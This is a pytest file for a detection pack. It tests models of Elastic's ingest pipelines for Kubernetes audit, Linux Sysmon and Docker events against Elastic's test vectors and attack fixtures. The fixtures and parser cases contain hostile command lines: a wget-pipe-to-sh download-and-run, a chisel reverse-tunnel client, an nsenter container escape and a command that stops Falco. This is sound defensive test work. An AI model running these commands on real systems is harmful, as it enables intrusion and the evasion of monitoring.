"""The Elastic ingest models (detpack.ingest.ecs) against Elastic's pipeline test vectors and the fixtures.

Elastic's vectors are in tests/data/elastic/ (Elastic License 2.0, see the README there). A pipeline test
feeds each input line as `message`, plus the test config's `fields`, through the ingest pipeline alone; the
model's pipeline functions are called the same way and must give the expected document field for field.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from detpack.ingest.ecs import (
    command_line_to_argv,
    docker_event_document,
    ecs_document,
    kubernetes_audit_pipeline,
    sysmon_agent_document,
    sysmon_linux_pipeline,
)
from detpack.ingest.fields import document_fields, field_known, load_field_list
from detpack.ingest.native import parse_native
from detpack.ingest.reference import flatten, kubernetes_audit_event

REPO_ROOT = Path(__file__).resolve().parent.parent
ELASTIC = REPO_ROOT / "tests" / "data" / "elastic"
K8S = ELASTIC / "kubernetes.audit_logs"
SYSMON = ELASTIC / "sysmon_linux.log"
FIXTURES = REPO_ROOT / "tests" / "fixtures"
DATASOURCES = ("kubernetes_audit", "linux_process_creation", "docker_events")

# Added by the Elastic Agent, not by the ingest pipeline, so absent from Elastic's pipeline test outputs:
# data_stream.* and event.dataset (the agent adds them to every event of the stream) and @timestamp (the
# agent's read time; the model uses the event's stageTimestamp as a stand-in). event.ingested is neither in
# the expected documents nor in the model (Fleet's final pipeline sets it at index time).
AGENT_FIELDS = (
    "@timestamp",
    "data_stream.type",
    "data_stream.dataset",
    "data_stream.namespace",
    "event.dataset",
)

# Fields a fixture event puts in the Elastic document that the data stream does not declare. The
# kubernetes.audit_logs data stream maps with `dynamic: false` (its manifest.yml), so Elasticsearch keeps such
# fields in _source and does NOT index them: they are harmless only if the pipeline really writes them, i.e.
# if they carry the recorded event's own data under its own path. That is what `_carried` checks, instead of a
# list of names: `kubernetes.audit.<path>` must hold the value(s) the event (or, for an AKS record, the audit
# event in it) has at `<path>` (request/response bodies, responseStatus.reason, GKE's protoPayload, logName,
# operation, resource, severity: Elastic's expected document for the GKE line keeps them so), and
# `kubernetes.audit.aks_metadata.<name>` must be a name Elastic's own expected AKS document has, holding one
# of the record's values (the pipeline moves the envelope there: test-kube-audit.log-expected.json). A field
# the model invents under any other name, or with a value the event does not hold, is a bug in the model.
# Whether a rule may name such a field is tests/test_fields.py's concern (it may not: nothing can match it).
STORED_NOT_INDEXED_ROOT = {"kubernetes_audit": "kubernetes.audit."}


def _elastic_aks_metadata_names() -> frozenset[str]:
    expected = _expected(K8S / "test-kube-audit.log-expected.json")[0]
    return frozenset(expected["kubernetes"]["audit"]["aks_metadata"])


def _flat_values(document: Any) -> dict[str, list[Any]]:
    """Leaf path -> its values (lists walked through, as document_fields names them)."""
    return {
        path: value if isinstance(value, list) else [value]
        for path, value in flatten(document).items()
        if value != []
    }


def _carried(name: str, values: list[Any], native: Any, root: str) -> bool:
    """Whether the undeclared field `name` (with `values`) carries the recorded event's data (see above)."""
    if not name.startswith(root) or not isinstance(native, dict):
        return False
    path = name[len(root) :]
    sources = [_flat_values(native), _flat_values(kubernetes_audit_event(native))]
    if path.startswith("aks_metadata."):
        leaves = [value for source in sources[:1] for found in source.values() for value in found]
        return path.split(".", 1)[1] in _elastic_aks_metadata_names() and all(v in leaves for v in values)
    return any(path in source and all(v in source[path] for v in values) for source in sources)


def _lines(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines()


def _expected(path: Path) -> list[dict[str, Any]]:
    docs: list[dict[str, Any]] = json.loads(path.read_text(encoding="utf-8"))["expected"]
    return docs


def _flat(doc: Mapping[str, Any], prefix: str = "") -> dict[str, Any]:
    """Leaf path -> value (lists compared whole), so a failure names the field that differs."""
    out: dict[str, Any] = {}
    for key, value in doc.items():
        path = f"{prefix}.{key}" if prefix else key
        if isinstance(value, Mapping) and value:
            out.update(_flat(value, path))
        else:
            out[path] = value
    return out


def assert_same_document(actual: Mapping[str, Any], expected: Mapping[str, Any]) -> None:
    got, want = _flat(actual), _flat(expected)
    missing = sorted(set(want) - set(got))
    extra = sorted(set(got) - set(want))
    different = sorted(path for path in set(got) & set(want) if got[path] != want[path])
    assert not (missing or extra or different), f"missing: {missing}\nextra: {extra}\n" + "\n".join(
        f"{path}: got {got[path]!r}, expected {want[path]!r}" for path in different
    )
    assert actual == expected


def _without(doc: dict[str, Any], paths: tuple[str, ...]) -> dict[str, Any]:
    doc = json.loads(json.dumps(doc))
    for path in paths:
        *parents, leaf = path.split(".")
        node = doc
        for part in parents:
            node = node.get(part, {})
        node.pop(leaf, None)
    for key in [k for k, v in doc.items() if v == {}]:
        del doc[key]
    return doc


def _config_fields() -> dict[str, Any]:
    config = yaml.safe_load((K8S / "test-audit.log-config.yml").read_text(encoding="utf-8"))
    fields: dict[str, Any] = config["fields"]
    return fields


# --- kubernetes.audit_logs: Elastic's expected documents ------------------------------------------------


def test_kubernetes_doc1_reproduced_field_for_field() -> None:
    """Line 1 of Elastic's test-audit.log gives Elastic's expected document 1, every field, nothing else."""
    line = _lines(K8S / "test-audit.log")[0]
    expected = _expected(K8S / "test-audit.log-expected.json")[0]
    assert_same_document(kubernetes_audit_pipeline({"message": line, **_config_fields()}), expected)


def test_kubernetes_doc1_matches_the_copy_in_shared() -> None:
    shared = REPO_ROOT.parent / "shared" / "reference-events" / "kubernetes-audit"
    if not shared.is_dir():
        pytest.skip("../shared is not present (only on the development machines)")
    assert _lines(K8S / "test-audit.log") == _lines(shared / "elastic_test-audit.log")
    expected = json.loads((shared / "elastic_test-audit.log-expected.doc1.json").read_text(encoding="utf-8"))
    assert _expected(K8S / "test-audit.log-expected.json")[0] == expected


@pytest.mark.parametrize(("line_index", "doc_index"), [(1, 1), (2, 2)], ids=["line2-vanilla", "line3-gke"])
def test_kubernetes_other_published_documents(line_index: int, doc_index: int) -> None:
    """Line 2 (vanilla) and the GKE Cloud Audit Log entry (protoPayload envelope)."""
    line = _lines(K8S / "test-audit.log")[line_index]
    expected = _expected(K8S / "test-audit.log-expected.json")[doc_index]
    assert_same_document(kubernetes_audit_pipeline({"message": line, **_config_fields()}), expected)


def test_kubernetes_aks_envelope_with_json_string_log() -> None:
    """AKS diagnostic log, properties.log a JSON string (test-kube-audit.log, no test config)."""
    line = _lines(K8S / "test-kube-audit.log")[0]
    expected = _expected(K8S / "test-kube-audit.log-expected.json")[0]
    assert_same_document(kubernetes_audit_pipeline({"message": line}), expected)


def test_kubernetes_aks_envelope_with_object_log() -> None:
    """The AKS line of test-audit.log has properties.log as an object; Elastic publishes no expected
    document for it here, so check the envelope handling the pipeline documents for that branch."""
    line = _lines(K8S / "test-audit.log")[3]
    doc = kubernetes_audit_pipeline({"message": line})
    audit = doc["kubernetes"]["audit"]
    assert audit["aks_metadata"] == {
        "category": "kube-audit-admin",
        "container_id": "aaaa1111",
        "operation_name": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
        "pod": "kube-apiserver-1234567890",
        "resource_id": "/SUBSCRIPTIONS/1234567890/RESOURCEGROUPS/TEST-RG/PROVIDERS/"
        "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/TEST-AKS",
        "service_build": "na",
        "stream": "stdout",
        "time": "2025-09-30T06:23:35.101355367Z",
    }
    assert doc["@timestamp"] == "2025-09-30T06:23:35.101Z"
    assert audit["verb"] == "update" and audit["objectRef"]["resource"] == "leases"
    assert doc["event"] == {"action": "update", "kind": "event", "original": line, "outcome": "success"}
    assert doc["user"] == {"name": "aksService"}
    assert doc["orchestrator"]["resource"] == {"name": "elastic-agent-cluster-test", "type": "leases"}
    assert "properties" not in audit["aks_metadata"]  # emptied by the moves, then removed
    assert "extra" not in audit["user"]  # {} removed
    assert "tmp" not in doc


def test_kubernetes_ecs_document_adds_only_the_agent_fields() -> None:
    """ecs_document = the pipeline's document plus what the agent adds (AGENT_FIELDS); the test config's
    tags are the only other difference (no tag is configured by default)."""
    line = _lines(K8S / "test-audit.log")[0]
    expected = _without(_expected(K8S / "test-audit.log-expected.json")[0], ("tags",))
    doc = ecs_document("kubernetes_audit", parse_native("json_lines", line), original=line)
    assert doc["@timestamp"] == "2025-03-04T06:22:18.822Z"  # stageTimestamp, millisecond precision
    assert doc["data_stream"] == {"type": "logs", "dataset": "kubernetes.audit_logs", "namespace": "default"}
    assert doc["event"]["dataset"] == "kubernetes.audit_logs"
    assert_same_document(_without(doc, AGENT_FIELDS), expected)


def test_kubernetes_pipeline_details() -> None:
    event = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "verb": "create",
        "stage": "ResponseComplete",
        "user": {"username": "", "uid": "u-1"},
        "sourceIPs": ["10.0.0.1", "not-an-ip"],
        "objectRef": {"resource": "pods", "namespace": "prod", "name": "web"},
        "annotations": {
            "authorization.k8s.io/decision": "forbid",
            "pod-security.kubernetes.io/enforce-policy": "restricted:latest",
        },
        "requestObject": {"metadata": {"name": "web", "labels": {"a": "b"}}, "spec": {"containers": []}},
        "responseObject": {"metadata": {"uid": "x"}, "status": {"phase": "Pending"}},
    }
    doc = ecs_document("kubernetes_audit", event)
    audit = doc["kubernetes"]["audit"]
    assert audit["annotations"] == {
        "authorization_k8s_io/decision": "forbid",
        "pod-security_kubernetes_io/enforce-policy": "restricted:latest",
    }
    assert doc["event"]["outcome"] == "failure"
    assert "requestObject" not in audit  # metadata dropped, then the empty containers list and spec
    assert audit["responseObject"] == {"status": {"phase": "Pending"}}
    assert "source" not in doc and "client" not in doc  # one element is not an IP: convert fails, ignored
    assert doc["user"] == {"id": "u-1"}  # empty username skipped
    assert doc["related"] == {"user": ["u-1"]}
    assert "container" not in doc  # this pipeline version does not set container.image.name
    assert json.loads(doc["event"]["original"]) == event


def test_kubernetes_not_json_is_a_pipeline_error() -> None:
    doc = kubernetes_audit_pipeline({"message": "{not json"})
    assert doc["event"]["kind"] == "pipeline_error"
    assert doc["event"]["original"] == "{not json"
    assert doc["tags"] == ["preserve_original_event"]
    assert doc["error"]["message"]


# --- sysmon_linux.log -----------------------------------------------------------------------------------


def test_sysmon_pipeline_reproduces_elastic_expected_documents() -> None:
    """Elastic's two test events (Event ID 5, decoded winlog form) give the expected documents, except the
    ecs.version constant: the expected file (@8f7e7ee3) was generated by an older pipeline (8.7.0) than the
    one modelled (@6321f22f, 8.11.0). The tags come from the test's configuration."""
    events = json.loads((SYSMON / "test-sysmon.json").read_text(encoding="utf-8"))["events"]
    expected = _expected(SYSMON / "test-sysmon.json-expected.json")
    assert len(events) == len(expected) == 2
    for event, want in zip(events, expected, strict=True):
        got = sysmon_linux_pipeline({**event, "tags": ["preserve_original_event"]})
        assert got["ecs"] == {"version": "8.11.0"} and want["ecs"] == {"version": "8.7.0"}
        assert_same_document(_without(got, ("ecs.version",)), _without(want, ("ecs.version",)))


def _fixture_line(datasource: str, name: str, number: int) -> str:
    return _lines(FIXTURES / datasource / name)[number - 1]


def test_sysmon_event_1_document() -> None:
    line = _fixture_line("linux_process_creation", "tunnel_tool_client.log", 1)
    native = parse_native("sysmon_linux_syslog", line)
    doc = ecs_document("linux_process_creation", native, original=line)
    process = doc["process"]
    assert process["executable"] == "/tmp/.cache/chisel"
    assert process["command_line"] == "/tmp/.cache/chisel client https://198.51.100.9:443 R:socks"
    assert process["args"] == ["/tmp/.cache/chisel", "client", "https://198.51.100.9:443", "R:socks"]
    assert process["args_count"] == 4
    assert process["pid"] == 48213 and process["entity_id"] == "{8f3c1a7e-ae04-6aff-e5c1-f6fadf560000}"
    assert process["working_directory"] == "/tmp/.cache"
    assert process["parent"] == {
        "args": ["sh"],
        "args_count": 1,
        "command_line": "sh",
        "entity_id": "{8f3c1a7e-addf-6aff-28f0-2c6388550000}",
        "executable": "/bin/busybox",
        "pid": 48190,
    }
    # The pipeline names processes after the syslog app name and splits paths on '\' only.
    assert process["name"] == "sysmon"
    # 'root' has no DOMAIN\ part: Elastic's pipeline sets no user.* field for Linux users.
    assert "user" not in doc and "related" not in doc
    assert doc["host"] == {"hostname": "worker-2", "name": "worker-2"}
    assert doc["event"] == {
        "action": "log",
        "category": ["process"],
        "code": "1",
        "created": "2026-11-20T02:18:44.519Z",
        "dataset": "sysmon_linux.log",
        "kind": "event",
        "module": "sysmon_linux",
        "provider": "Linux-Sysmon",
        "type": ["start"],
    }
    assert doc["@timestamp"] == "2026-11-20T02:18:44.000Z"
    assert doc["log"] == {"level": "information"}
    assert doc["message"].startswith("<Event><System>") and doc["message"].endswith("</Event>")
    assert doc["winlog"] == {
        "channel": "Linux-Sysmon/Operational",
        "computer_name": "worker-2",
        "event_data": {
            "IntegrityLevel": "no level",
            "LogonGuid": "{8f3c1a7e-0000-0000-0000-000000000000}",
            "LogonId": "0",
            "ParentUser": "root",
            "TerminalSessionId": "4294967295",
        },
        "event_id": "1",
        "opcode": "Info",
        "process": {"pid": 812, "thread": {"id": 812}},
        "provider_guid": "{ff032593-a8d3-4f13-b0d6-01fc615a0f97}",
        "provider_name": "Linux-Sysmon",
        "record_id": "40039",
        "version": 5,
    }
    assert "original" not in doc["event"]  # removed unless tagged preserve_original_event
    assert "message" not in ecs_document("linux_process_creation", native)  # the XML text needs original=


def test_sysmon_agent_decoding() -> None:
    line = _fixture_line("linux_process_creation", "tunnel_tool_client.log", 1)
    agent = sysmon_agent_document(parse_native("sysmon_linux_syslog", line), original=line)
    assert agent["log"]["syslog"] == {"hostname": "worker-2", "appname": "sysmon"}
    assert agent["winlog"]["level"] == "information"
    assert agent["winlog"]["record_id"] == 40039
    assert agent["winlog"]["time_created"] == "2026-11-20T02:18:44.519Z"
    assert "user" not in agent["winlog"]  # <Security UserId="0"/>: the decoder reads UserID
    assert "keywords" not in agent["winlog"] and "task" not in agent["winlog"]
    assert agent["event"]["original"] == line


def test_sysmon_hashes_domain_users_and_pe_fields() -> None:
    line = _fixture_line("linux_process_creation", "tunnel_tool_client.log", 1)
    native = parse_native("sysmon_linux_syslog", line)
    native["EventData"].update(
        {
            "Hashes": "SHA256=ABCDEF,MD5=00000000",
            "User": "CORP\\alice",
            "OriginalFileName": "chisel",
            "Company": "-",
            "RuleName": "technique_id=T1090",
        }
    )
    doc = ecs_document("linux_process_creation", native)
    assert doc["process"]["hash"] == {"sha256": "abcdef"}
    assert doc["related"] == {"hash": ["abcdef"], "user": ["alice"]}
    assert doc["user"] == {"domain": "CORP", "name": "alice"}
    assert doc["process"]["pe"] == {"original_file_name": "chisel"}
    assert doc["rule"] == {"name": "technique_id=T1090"}
    assert "Hashes" not in doc["winlog"]["event_data"]


@pytest.mark.parametrize(
    ("command_line", "argv"),
    [
        ("nsenter -t 1 -m -u -n -i sh", ["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"]),
        ("  a\tb  ", ["a", "b"]),
        ('sh -c "systemctl stop falco"', ["sh", "-c", "systemctl stop falco"]),
        ("sh -c 'kill 1'", ["sh", "-c", "'kill", "1'"]),  # single quotes group nothing
        ('a\\\\"b c"', ["a\\b c"]),  # 2n backslashes before a quote: n backslashes, the quote groups
        ('a\\"b', ['a"b']),  # 2n+1: n backslashes and a literal quote
        ("C:\\dir\\x.exe", ["C:\\dir\\x.exe"]),  # backslashes not before a quote are literal
        ('"a""b c', ['a"b', "c"]),  # "" inside quotes: a literal quote, and the quoted part ends
        ('"a""b" c', ['a"b c']),  # ... so the next quote opens a new quoted part
        ('""', [""]),
    ],
)
def test_command_line_to_argv(command_line: str, argv: list[str]) -> None:
    assert command_line_to_argv(command_line) == argv


# --- docker.event ---------------------------------------------------------------------------------------


def test_docker_event_document() -> None:
    line = _fixture_line("docker_events", "exec_download_and_run.jsonl", 1)
    doc = ecs_document("docker_events", parse_native("json_lines", line))
    event = doc["docker"]["event"]
    assert event["type"] == "container"
    assert event["action"] == event["status"] == "exec_create: sh -c wget -qO- http://198.51.100.4/a|sh"
    assert event["id"] == event["actor"]["id"]
    assert event["from"] == "nginx:1.27.2"
    attributes = event["actor"]["attributes"]
    assert attributes["image"] == "nginx:1.27.2" and attributes["name"] == "nginx-prod"
    assert attributes["com_docker_compose_project"] == "shop"  # labels.dedot (on by default)
    assert not any("." in key for key in attributes)
    assert doc["@timestamp"] == "2026-11-19T01:52:13.000Z"  # `time`, whole seconds
    assert doc["event"] == {"dataset": "docker.event", "module": "docker"}
    assert doc["data_stream"] == {"type": "metrics", "dataset": "docker.event", "namespace": "default"}
    assert set(doc) == {"@timestamp", "docker", "event", "data_stream"}  # no container.*, no scope/timeNano


def test_docker_absent_keys_are_empty_strings_and_dedot_can_be_off() -> None:
    native = {"Type": "network", "Action": "connect", "Actor": {"ID": "n1", "Attributes": {"a.b": "1"}}}
    doc = docker_event_document(native, dedot=False)
    event = doc["docker"]["event"]
    assert (event["status"], event["id"], event["from"]) == ("", "", "")
    assert event["actor"]["attributes"] == {"a.b": "1"}
    assert doc["@timestamp"] == "1970-01-01T00:00:00.000Z"


def test_unknown_datasource_is_an_error() -> None:
    with pytest.raises(ValueError, match="no Elastic ingest model"):
        ecs_document("no_such_source", {})


# --- every field of every fixture event is mapped by the data stream -----------------------------------


def _fixture_events(datasource: str) -> Iterator[tuple[str, str, Any]]:
    spec = yaml.safe_load((REPO_ROOT / "datasources" / f"{datasource}.yml").read_text(encoding="utf-8"))
    for path in sorted((FIXTURES / datasource).iterdir()):
        if path.suffix not in (".jsonl", ".log"):
            continue
        for number, line in enumerate(_lines(path), 1):
            yield f"{path.name}:{number}", line, parse_native(spec["fixture_format"], line)


@pytest.mark.parametrize("datasource", DATASOURCES)
def test_every_produced_field_is_in_the_field_list(datasource: str) -> None:
    field_list = load_field_list(datasource)
    root = STORED_NOT_INDEXED_ROOT.get(datasource)
    assert root is None or not field_list.dynamic  # stored-not-indexed only exists with dynamic: false
    problems: list[str] = []
    count = 0
    for where, line, native in _fixture_events(datasource):
        count += 1
        before = copy.deepcopy(native)
        doc = ecs_document(datasource, native, original=line)
        assert native == before, f"{where}: ecs_document changed the parsed event"
        values = _flat_values(doc)
        for name in document_fields(doc):
            if field_known(field_list.fields, name):
                continue
            if root is not None and _carried(name, values.get(name, []), native, root):
                continue
            problems.append(f"{where}: {name}")
    assert count > 0
    assert not problems, f"fields {datasource}'s data stream ({field_list.data_stream}) does not map:\n" + (
        "\n".join(problems)
    )


def test_an_undeclared_field_must_carry_the_event_data() -> None:
    # The rule of test_every_produced_field_is_in_the_field_list, on an AKS record and a GKE entry.
    aks = json.loads(_lines(K8S / "test-kube-audit.log")[0])
    doc = ecs_document("kubernetes_audit", aks)
    values = _flat_values(doc)
    root = "kubernetes.audit."
    category = "kubernetes.audit.aks_metadata.category"
    assert values[category] == ["kube-audit"] and _carried(category, values[category], aks, root)
    pod = "kubernetes.audit.aks_metadata.pod"  # moved up from properties.pod
    assert _carried(pod, values[pod], aks, root)
    assert not _carried(
        "kubernetes.audit.aks_metadata.cluster", ["kube-audit"], aks, root
    )  # not Elastic's name
    assert not _carried(category, ["kube-audit-admin"], aks, root)  # not the record's value
    assert not _carried(
        "kubernetes.audit.verb_extra", ["update"], aks, root
    )  # a path the event does not have
    assert not _carried("user.name", ["aksService"], aks, root)  # outside kubernetes.audit
    gke = json.loads(_lines(K8S / "test-audit.log")[2])
    method = "kubernetes.audit.protoPayload.methodName"
    assert _carried(method, ["io.k8s.get"], gke, root)
    granted = "kubernetes.audit.protoPayload.authorizationInfo.granted"
    assert _carried(granted, [True], gke, root) and not _carried(granted, [False], gke, root)
